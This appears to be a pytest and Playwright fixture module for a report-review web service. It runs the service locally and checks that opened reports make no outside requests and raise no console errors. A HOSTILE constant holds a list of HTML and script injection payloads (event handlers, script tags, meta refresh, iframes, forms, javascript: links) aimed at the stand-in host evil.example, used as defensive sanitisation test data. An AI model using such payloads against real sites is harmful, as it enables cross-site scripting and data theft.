"""A running service with three reports to review, and browsers that are signed in."""

from __future__ import annotations

import shutil
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import cast

import pytest
import uvicorn
from playwright.sync_api import Browser, Page, Request

from extractor.pipeline import extract
from extractor.service.api.app import create_app
from extractor.service.api.auth import SESSION_COOKIE, sign_in
from extractor.service.jobs.runner import JobRunner
from extractor.service.settings import ServiceSettings
from extractor.service.store.engine import Store, open_store
from extractor.service.store.keys import new_key
from extractor.service.store.reports import ReportInfo, ReportQuery, list_reports
from extractor.service.store.results import put_extraction
from extractor.service.store.sources import add_source
from extractor.service.store.stored import StoredReport, get_report
from extractor.service.wiring import Service
from tests.browser import chromium

SAMPLES = Path(__file__).parents[3] / "samples"
NOW = datetime(2026, 3, 2, 9, 15, tzinfo=UTC)
CHOSEN = ("fengtong-district-2021", "dipu-water-2021", "hengqu-market-regulation-2022")
HOSTILE = """<body onload="parent.stolen=1"><base href="http://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href="http://evil.example/x.css"><style>@import url(http://evil.example/y.css); * {background:url(//evil.example/z)}</style>
<script>parent.stolen=1;top.location='//evil.example'</script><img src=x onerror="parent.stolen=1"><img src="http://evil.example/p.png">
<svg onload="parent.stolen=1"><script>parent.stolen=1</script></svg><iframe src="//evil.example"></iframe><object data="//evil.example"></object>
<form action="//evil.example" target=_top><input name=a value=7><button autofocus onfocus="parent.stolen=1">x</button></form>
<a href="javascript:parent.stolen=1" ping="//evil.example">a</a><td data-at="0/0/0" data-place="0" class=current>spoof</td>"""


class _Idle:
    def start(self) -> None: ...
    def stop(self) -> None: ...
    def wake(self) -> None: ...


def add(store: Store, name: str, data: bytes) -> None:
    """Read a source and keep what it gave."""
    extraction = extract(data, name)
    with store.write() as session:
        info, _ = add_source(session, name=name, data=data, by="test", at=NOW)
        put_extraction(session, info.id, extraction, NOW)


class Running:
    """A service on a port of its own."""

    def __init__(self, store: Store) -> None:
        self.service = Service(store, cast(JobRunner, _Idle()), ServiceSettings(Path()), lambda: NOW)
        with store.write() as session:
            self.key = new_key(session, "test", NOW)
        app = create_app(self.service)
        self._server = uvicorn.Server(uvicorn.Config(app, port=0, log_level="error"))
        self._thread = threading.Thread(target=self._server.run, daemon=True)
        self._thread.start()
        while not self._server.started:
            time.sleep(0.01)
        self.url = f"http://127.0.0.1:{self._server.servers[0].sockets[0].getsockname()[1]}"

    def stop(self) -> None:
        self._server.should_exit = True
        self._thread.join()
        self.service.store.engine.dispose()

    def add(self, name: str, data: bytes) -> None:
        add(self.service.store, name, data)

    def reports(self, search: str | None = None) -> list[ReportInfo]:
        """The reports in the order of the list."""
        with self.service.store.read() as session:
            return list_reports(session, ReportQuery(search=search, sort="doubts", descending=True)).items

    def report(self, search: str) -> StoredReport:
        with self.service.store.read() as session:
            return get_report(session, self.reports(search)[0].id)

    def cookie(self, person: str) -> dict[str, str]:
        signed = sign_in(self.service, self.key, person)
        assert signed
        return {"name": SESSION_COOKIE, "value": signed[0], "url": self.url}


@dataclass(frozen=True)
class Desk:
    """A person at a browser."""

    page: Page
    expected: list[str]
    """What the console may say: tests that break something on purpose put it here."""


Sit = Callable[..., AbstractContextManager[Desk]]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        yield found


@pytest.fixture(scope="module")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store with the samples, to be copied."""
    place = tmp_path_factory.mktemp("filled") / "gongkai.db"
    store = open_store(f"sqlite:///{place}")
    for name in CHOSEN:
        source = next((SAMPLES / name).glob("source.*"))
        add(store, f"{name}{source.suffix}", source.read_bytes())
    store.engine.dispose()
    return place


@pytest.fixture
def running(tmp_path: Path, filled: Path) -> Iterator[Running]:
    for part in filled.parent.iterdir():
        shutil.copy(part, tmp_path)
    made = Running(open_store(f"sqlite:///{tmp_path / filled.name}"))
    yield made
    made.stop()


@pytest.fixture
def sit(browser: Browser, running: Running) -> Sit:
    """Opens a report in a browser of its own; at its end nothing has left the machine and nothing has gone wrong."""

    @contextmanager
    def open_report(search: str, person: str = "Li Hua", lang: str = "en", **options: object) -> Iterator[Desk]:
        context = browser.new_context(
            viewport={"width": 1440, "height": 900},
            locale="zh-CN" if lang == "zh" else "en",
            accept_downloads=True,
            **options,  # type: ignore[arg-type]
        )
        context.add_cookies([running.cookie(person)])  # type: ignore[list-item]
        asked: list[str] = []
        wrong: list[str] = []

        def asked_for(request: Request) -> None:
            if not request.url.startswith((running.url, "blob:", "data:")):
                asked.append(request.url)

        context.on("request", asked_for)
        page = context.new_page()
        desk = Desk(page, [])
        page.on("console", lambda said: wrong.append(said.text) if said.type in ("error", "warning") else None)
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.goto(f"{running.url}/reports/{running.reports(search)[0].id}")
        page.locator("#card .card-head, #message:not(:empty)").first.wait_for()
        try:
            yield desk
            assert asked == []
            assert [text for text in wrong if not any(part in text for part in desk.expected)] == []
        finally:
            context.close()

    return open_report
